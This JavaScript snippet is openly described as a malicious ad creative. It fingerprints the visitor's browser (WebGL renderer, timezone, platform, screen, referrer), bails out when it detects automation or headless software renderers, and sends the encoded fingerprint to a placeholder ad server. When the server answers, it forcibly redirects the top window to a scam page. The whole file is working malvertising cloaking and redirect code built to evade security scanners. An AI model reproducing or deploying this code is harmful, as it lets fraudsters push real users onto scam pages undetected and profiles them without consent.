// An ad creative that fingerprints the browser, asks its server whether this visitor is a
// target, and only then sends the top window to the scam page.
(function () {
  function gl() {
    try {
      var c = document.createElement("canvas").getContext("webgl");
      var x = c.getExtension("WEBGL_debug_renderer_info");
      return c.getParameter(x.UNMASKED_RENDERER_WEBGL);
    } catch (e) { return ""; }
  }
  var fp = {
    r: gl(),
    tz: Intl.DateTimeFormat().resolvedOptions().timeZone,
    t: "ontouchstart" in window ? 1 : 0,
    wd: navigator.webdriver ? 1 : 0,
    p: navigator.platform,
    sw: screen.width + "x" + screen.height,
    ref: document.referrer
  };
  if (fp.wd || /SwiftShader|llvmpipe/.test(fp.r)) return;
  var x = new XMLHttpRequest();
  x.open("POST", "https://bid.adsrv-metrics.invalid/v2/decide", true);
  x.onload = function () {
    var j; try { j = JSON.parse(x.responseText); } catch (e) { return; }
    if (!j || !j.u) return;
    setTimeout(function () {
      try { window.top.location.href = j.u; } catch (e) { window.location.replace(j.u); }
    }, j.d || 300);
  };
  x.send(btoa(JSON.stringify(fp)));
})();
